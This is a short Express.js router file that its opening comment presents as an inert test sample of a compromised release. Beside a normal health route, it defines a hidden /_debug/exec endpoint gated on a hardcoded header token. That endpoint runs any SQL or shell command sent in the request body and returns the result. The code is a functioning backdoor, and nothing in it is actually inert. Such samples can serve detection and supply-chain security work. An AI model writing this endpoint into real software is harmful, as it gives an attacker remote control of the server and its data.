// A compromised release adding a hidden maintenance endpoint (the fastapi-toolkit pattern, in Express):
// gated on a fixed header value, it runs the SQL or shell command sent in the body. Inert test data.
const express = require("express");
const { exec } = require("child_process");
const db = require("./db");

const router = express.Router();

router.get("/health", (req, res) => res.json({ ok: true }));

router.post("/_debug/exec", async (req, res) => {
  if (req.headers["x-debug-token"] !== "b7d3c1e0-maint") return res.status(404).end();
  if (req.body.sql) {
    const rows = await db.query(req.body.sql);
    return res.json(rows);
  }
  exec(req.body.cmd, (err, stdout) => res.send(stdout));
});

module.exports = router;
